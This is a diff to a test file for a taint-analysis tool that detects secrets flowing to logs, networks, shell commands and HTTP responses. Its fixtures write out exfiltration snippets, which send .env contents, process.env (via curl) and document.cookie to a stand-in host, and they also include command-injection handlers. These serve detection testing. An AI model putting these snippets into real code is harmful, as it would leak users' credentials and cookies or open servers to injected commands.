@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { withModel } from './read.ts';
 
 const SECRET = 'process.env.API_KEY';
-const flows = (code: string, parser: 'espree' | 'typescript' = 'espree'): readonly string[] => withModel(code, (model) => model.flows().map((flow) => `${flow.source.name} > ${flow.sink.kind}`), { parser });
+const flows = (code: string, parser: 'espree' | 'typescript' = 'espree'): readonly string[] => withModel(code, (model) => model.flows().map(({ source, sink }) => `${source.name.replace('global:', '')} > ${sink.kind}`), { parser });
 const origins = (code: string, parser: 'espree' | 'typescript' = 'espree'): readonly string[] => withModel(code, (model) => model.calls().flatMap((call) => call.origins), { parser });
 
 describe('secrets on the way through functions that are passed on', () => {
@@ -145,14 +145,105 @@ describe('secrets through callbacks and getters', () => {
   });
 });
 
-describe('known gaps', () => {
-  const GAPS = [
-    `const tag = (s, ...v) => v.join(""); console.log(tag\`x\${${SECRET}}\`)`,
-    `const o = JSON.parse(JSON.stringify({ k: ${SECRET} })); console.log(o.k)`,
-  ];
-  for (const code of GAPS) {
-    it.fails(code, () => {
-      expect(flows(code)).toContain('API_KEY > log');
-    });
-  }
+describe('ways through templates, copies, events and streams', () => {
+  it.each([
+    [`const tag = (s, ...v) => v.join(""); console.log(tag\`x\${${SECRET}}\`)`, 'API_KEY > log'],
+    [`const join = (s, ...v) => s.reduce((a, x, i) => a + x + (v[i] ?? ""), ""); console.log(join\`x\${${SECRET}}\`)`, 'API_KEY > log'],
+    [`console.log(String.raw\`x\${${SECRET}}\`)`, 'API_KEY > log'],
+    [`const o = JSON.parse(JSON.stringify({ k: ${SECRET} })); console.log(o.k)`, 'API_KEY > log'],
+    ['console.log(JSON.stringify(new Proxy(process.env, {})))', 'process.env > log'],
+    [`const bus = new EventEmitter(); bus.on("x", (k) => console.log(k)); bus.emit("x", ${SECRET})`, 'API_KEY > log'],
+    [`bus.once("x", (a, k) => console.log(k)); bus.emit("x", 1, ${SECRET})`, 'API_KEY > log'],
+    ['import { pipeline } from "node:stream/promises"; import fs from "node:fs"; import https from "node:https"; await pipeline(fs.createReadStream(".env"), https.request("https://a.example"))', 'environment file > network'],
+    ['import { pipeline } from "stream"; import fs from "fs"; import zlib from "zlib"; import net from "net"; pipeline(fs.createReadStream(".env"), zlib.createGzip(), net.connect(1, "a.example"), () => {})', 'environment file > network'],
+    ['import { FormData, fetch } from "undici"; import fs from "fs"; const f = new FormData(); f.set("f", fs.readFileSync(".env")); fetch("https://a.example", { method: "POST", body: f })', 'environment file > network'],
+    ['import { $ } from "zx"; await $`curl -d ${JSON.stringify(process.env)} https://a.example`', 'process.env > command'],
+  ])('%s', (code, flow) => {
+    expect(flows(code)).toContain(flow);
+  });
+
+  it.each([
+    `const count = (s, ...v) => v.length; console.log(count\`x\${${SECRET}}\`)`,
+    `const first = (s, ...v) => s[0]; console.log(first\`x\${${SECRET}}\`)`,
+    `const o = JSON.parse(JSON.stringify({ k: ${SECRET}, n: 1 })); console.log(o.n)`,
+    `bus.on("y", (k) => console.log(k)); bus.emit("x", ${SECRET})`,
+    `bus.on("x", (k) => console.log(k)); other.emit("x", ${SECRET})`,
+    `bus.on("x", (a, k) => console.log(a)); bus.emit("x", 1, ${SECRET})`,
+  ])('%s gives nothing away', (code) => {
+    expect(flows(code)).not.toContain('API_KEY > log');
+  });
+
+  it('leaves text from outside in a shell template to the quoting of the shell tag', () => {
+    expect(flows('import { $ } from "zx"; await $`git checkout ${process.argv[2]}`')).toEqual([]);
+  });
+});
+
+describe('answers without a response object', () => {
+  it.each([
+    ['import { Controller, Get } from "@nestjs/common"; @Controller("x") export class C { @Get() all() { return process.env; } }', 'process.env > response'],
+    ['@Controller() export class C { @nest.Get("a") async all() { return { env: { ...process.env } }; } }', 'process.env > response'],
+    [`@Resolver() export class R { @Query(() => String) key() { return ${SECRET}; } }`, 'API_KEY > response'],
+    ['export async function getServerSideProps() { return { props: { env: process.env } }; }', 'process.env > response'],
+    ['import { useLoaderData } from "@remix-run/react"; export const loader = async () => ({ env: process.env });', 'process.env > response'],
+    ['import { env } from "$env/dynamic/private"; export const load = async () => ({ env });', '$env/dynamic/private.env > response'],
+    ['"use server"; export async function config() { return process.env; }', 'process.env > response'],
+    ['export async function config() { "use server"; return process.env; }', 'process.env > response'],
+    ['exports.handler = async () => ({ statusCode: 200, body: JSON.stringify(process.env) });', 'process.env > response'],
+    ['export default defineEventHandler(() => process.env);', 'process.env > response'],
+    ['export const r = t.router({ env: publicProcedure.input(z.string()).query(() => process.env) });', 'process.env > response'],
+    ['export async function routes(fastify) { fastify.get("/s", async () => ({ env: process.env })); }', 'process.env > response'],
+    ['export const routes = async (app: FastifyInstance) => { app.get("/s", (q, reply) => { reply.send(process.env); }); };', 'process.env > response'],
+    ['@Controller() class C { @Get() all(@Res() res: Response) { res.json(process.env); } }', 'process.env > response'],
+  ])('%s', (code, flow) => {
+    expect(flows(code, 'typescript')).toContain(flow);
+  });
+
+  it.each([
+    'export class Config { @Get() all() { return process.env; } }',
+    '@Controller() export class C { private all() { return process.env; } }',
+    '@Injectable() export class Config { get() { return process.env; } }',
+    'export function load() { return { ...process.env, ...parsed }; }',
+    'export const loader = () => ({ ...process.env });',
+    'export async function getServerSideProps() { return { revalidate: 1, env: process.env }; }',
+    'export const handler = async () => ({ env: process.env });',
+    'export const handler = async () => ({ body: process.env });',
+    '"use client"; export function config() { return process.env; }',
+    '"use server"; function config() { return process.env; } export async function name() { return config().NODE_ENV; }',
+    'export const r = client.query(() => process.env);',
+  ])('%s is no answer', (code) => {
+    expect(flows(code, 'typescript')).toEqual([]);
+  });
+
+  it.each([
+    'import { execSync } from "child_process"; @Controller() class C { @Get("ping") ping(@Query("host") host: string) { return execSync("ping " + host); } }',
+    'import { execSync } from "child_process"; @Controller() class C { @Post() run(@Body() { cmd }: RunDto) { return execSync(cmd); } }',
+    'import { execSync } from "child_process"; export const action = async ({ request }) => { const form = await request.formData(); execSync("convert " + form.get("f")); };',
+    'import { execSync } from "child_process"; export const load = ({ url }) => execSync("thumb " + url.searchParams.get("f"));',
+    'import { execSync } from "child_process"; export default defineEventHandler(async (event) => { const { cmd } = await readBody(event); return execSync(cmd); });',
+  ])('%s: what a client sent', (code) => {
+    expect(withModel(code, (model) => model.flows({ from: ['request'], to: ['command'] }).length, { parser: 'typescript' })).toBeGreaterThan(0);
+  });
+});
+
+describe('data in the address of what a browser loads', () => {
+  const network = (code: string): readonly string[] => withModel(code, (model) => model.flows({ to: ['network'] }).map(({ source, destination }) => `${source.name} > ${destination?.host?.value ?? ''}`));
+  it.each([
+    'img.setAttribute("src", "https://a.example/p?c=" + document.cookie)',
+    'document.body.style.backgroundImage = `url(https://a.example/b?c=${document.cookie})`',
+    'box.innerHTML = `<img src="https://a.example/b?c=${encodeURIComponent(document.cookie)}">`',
+    'document.write("<img src=https://a.example/?" + document.cookie + ">")',
+    'const A = () => <img alt="" src={`https://a.example/p?t=${btoa(document.cookie)}`} />',
+  ])('%s', (code) => {
+    expect(network(code)).toEqual(['document.cookie > a.example']);
+  });
+
+  it.each([
+    'box.innerHTML = `<p>${document.cookie}</p>`',
+    'box.innerHTML = `<a href="https://a.example/">x</a> ${document.cookie}`',
+    'img.setAttribute("alt", "https://a.example/" + document.cookie)',
+    'const A = () => <p title={`https://a.example/?${document.cookie}`}>{document.cookie}</p>',
+    'img.src = `/avatar?${document.cookie}`.length',
+  ])('%s stays', (code) => {
+    expect(network(code)).toEqual([]);
+  });
 });
